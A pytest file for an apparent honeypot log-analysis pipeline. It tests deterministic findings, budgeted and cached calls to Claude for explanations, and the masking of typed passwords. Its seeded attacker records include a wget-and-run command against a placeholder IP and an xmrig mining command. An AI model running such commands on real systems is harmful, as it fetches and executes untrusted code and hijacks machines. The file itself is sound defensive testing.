"""A window's report: complete without Claude, stored by revision, asked about once, its answer used again."""

from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from decimal import Decimal

import pytest
from sqlalchemy import Engine, Row, select

from rustbucket_pipeline.analysis.digest import build_digest
from rustbucket_pipeline.analysis.report import AnalysisOutcome, build_analysis, report_at_once
from rustbucket_pipeline.analysis.stored import stored_report
from rustbucket_pipeline.errors import UsageError
from rustbucket_pipeline.settings import Settings
from rustbucket_pipeline.storage.analysis_tables import claude_calls, findings, log_analyses, window_digests
from rustbucket_pipeline.storage.builds import build_of
from rustbucket_pipeline_tests.analysis.claude_server import ClaudeServer
from rustbucket_pipeline_tests.analysis.conftest import changed
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, event, fleet, login, tell

ATTACK = [command("cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh"), command("uname -a", 1)]


def analysed(database: Engine, settings: Settings, rows: Iterable[dict[str, object]] = ()) -> AnalysisOutcome:
    """The window's report after those rows came in."""
    tell(database, rows)
    build_digest(database, WINDOW, NOW, None)
    return build_analysis(database, settings, WINDOW, NOW, None)


def revisions(database: Engine) -> list[Row[tuple[object, ...]]]:
    with database.connect() as connection:
        return list(connection.execute(select(log_analyses).order_by(log_analyses.c.revision)))


def test_a_window_without_a_digest_says_what_to_do(database: Engine, settings: Settings) -> None:
    with pytest.raises(UsageError, match="has no digest yet; materialize window_digest"):
        build_analysis(database, settings, WINDOW, NOW, None)


def test_without_a_key_the_report_is_complete_and_says_so(database: Engine, settings: Settings) -> None:
    outcome = analysed(database, settings, ATTACK)
    assert (outcome.status, outcome.severity, outcome.cost_usd) == ("deterministic", "high", 0)
    assert outcome.claude == "off (no ANTHROPIC_API_KEY)"
    assert outcome.headline.startswith("HIGH: A file is fetched from the internet and made to run (F1, and 2 more).")
    with database.connect() as connection:
        stored = connection.execute(select(findings).order_by(findings.c.finding_id)).all()
        build = build_of(connection, "log_analysis", WINDOW)
    assert [(row.finding_id, row.rule, row.severity, row.events) for row in stored] == [
        ("F1", "download-and-run", "high", 1),
        ("F2", "script-run", "medium", 1),
        ("F3", "system-discovery", "low", 1),
    ]
    assert build is not None
    assert build.output_version == outcome.output_version


def test_an_empty_window_has_a_report_and_isnt_asked_about(
    database: Engine, with_claude: Settings, claude: ClaudeServer
) -> None:
    outcome = analysed(database, with_claude)
    assert (outcome.status, outcome.severity, outcome.findings) == ("deterministic", "info", 0)
    assert outcome.headline == "UNKNOWN: no record of this window is at hand."
    assert claude.requests == []


def test_a_window_of_operational_records_only_isnt_asked_about(
    database: Engine, with_claude: Settings, claude: ClaudeServer
) -> None:
    outcome = analysed(database, with_claude, [event("operational")])
    assert outcome.claude == "not asked (nothing to explain)"
    assert claude.requests == []


def test_claude_explains_and_decides_nothing(database: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
    outcome = analysed(database, with_claude, ATTACK)
    assert (outcome.status, outcome.severity, outcome.tokens_in, outcome.tokens_out) == ("claude", "high", 10_000, 500)
    (row,) = revisions(database)
    assert (row.model, row.request_ids, row.cost_usd) == ("claude-haiku-5-5", ["req_1"], Decimal("0.001250"))
    assert row.report["prose"]["findings"][0]["evidence"] == ["F1"]
    assert "wget" not in str(row.report["prose"])
    with database.connect() as connection:
        (call,) = connection.execute(select(claude_calls)).all()
    assert (call.outcome, call.cost_usd, call.usage["out"]) == ("answered", Decimal("0.001250"), 500)
    assert len(claude.requests) == 1


def test_the_same_window_again_costs_nothing(database: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
    first = analysed(database, with_claude, ATTACK)
    again = analysed(database, with_claude)
    assert (again.changed, again.revision, again.cost_usd) == (False, 1, 0)
    assert again.output_version == first.output_version
    assert len(claude.requests) == 1
    assert len(revisions(database)) == 1


def test_late_rows_that_change_only_counts_use_the_answer_again(
    database: Engine, with_claude: Settings, claude: ClaudeServer
) -> None:
    analysed(database, with_claude, ATTACK)
    late = analysed(database, with_claude, [command("uname -a", 50)])
    assert (late.changed, late.revision, late.status, late.cost_usd) == (True, 2, "claude", 0)
    assert late.claude == "used again: findings and indicators are the same"
    assert len(claude.requests) == 1
    old, new = revisions(database)
    assert old.digest_sha256 != new.digest_sha256


def test_a_new_finding_asks_again(database: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
    analysed(database, with_claude, ATTACK)
    late = analysed(database, with_claude, [command("./xmrig -o stratum+tcp://pool.example:3333", 60)])
    assert (late.revision, late.cost_usd) == (2, 0.00125)
    assert len(claude.requests) == 2


def test_two_runs_at_once_make_one_call(database: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
    claude.scenes = ["slow"]
    tell(database, ATTACK)
    build_digest(database, WINDOW, NOW, None)
    with ThreadPoolExecutor() as pool:
        runs = [pool.submit(build_analysis, database, with_claude, WINDOW, NOW, None) for _ in range(2)]
        outcomes = [run.result() for run in runs]
    assert sorted(outcome.changed for outcome in outcomes) == [False, True]
    assert len({outcome.output_version for outcome in outcomes}) == 1
    assert len(claude.requests) == 1


def test_setting_a_key_later_explains_what_was_reported_without(
    database: Engine, settings: Settings, with_claude: Settings
) -> None:
    analysed(database, settings, ATTACK)
    assert analysed(database, with_claude).status == "claude"


def test_a_spent_day_is_reported_without_a_call(database: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
    with database.begin() as connection:
        earlier = {"window_start": WINDOW.start - timedelta(hours=4), "model": "m", "outcome": "answered"}
        connection.execute(claude_calls.insert().values(**earlier, asked_at=NOW, cost_usd=Decimal("0.999")))
    outcome = analysed(database, with_claude, ATTACK)
    assert outcome.claude == "no budget: the budget of the window or of the day is spent"
    assert claude.requests == []
    with database.connect() as connection:
        window = window_digests.c.window_start
        assert connection.execute(select(window)).scalar_one() == WINDOW.start
    tomorrow = NOW + timedelta(days=1)
    assert build_analysis(database, with_claude, WINDOW, tomorrow, None).status == "claude"


def test_a_window_whose_worst_case_is_too_dear_is_reported_without_a_call(
    database: Engine, settings: Settings, claude: ClaudeServer
) -> None:
    models = {"CLAUDE_MODELS": "claude-unheard-of-1", "CLAUDE_BUDGET_USD_PER_WINDOW": 0.1}
    dear = changed(settings, ANTHROPIC_API_KEY="k", CLAUDE_BASE_URL=claude.url, **models)
    assert analysed(database, dear, ATTACK).claude.startswith("no budget")
    assert claude.requests == []


def test_passwords_reach_people_as_typed_and_claude_as_a_class(
    database: Engine, with_claude: Settings, claude: ClaudeServer
) -> None:
    analysed(database, with_claude, [*ATTACK, login("root", "Tr0ub4dor&3", 9)])
    assert "Tr0ub4dor" not in str(claude.requests)
    assert "11 characters, lower+upper+digits+other" in str(claude.requests)
    with database.connect() as connection:
        report = stored_report(connection, WINDOW)
    assert report is not None
    assert report.credentials.rows[0].second == "Tr0ub4dor&3"


def test_a_report_made_at_once_stores_nothing(database: Engine) -> None:
    fleet(database, "BKT1")
    tell(database, ATTACK)
    with database.connect() as connection, connection.begin() as transaction:
        report = report_at_once(connection, WINDOW)
        transaction.rollback()
    assert report.findings[0].rule == "download-and-run"
    assert report.claude.outcome == "not asked (a report made at once is made without Claude)"
    assert revisions(database) == []
    with database.connect() as connection:
        assert connection.execute(select(window_digests)).all() == []
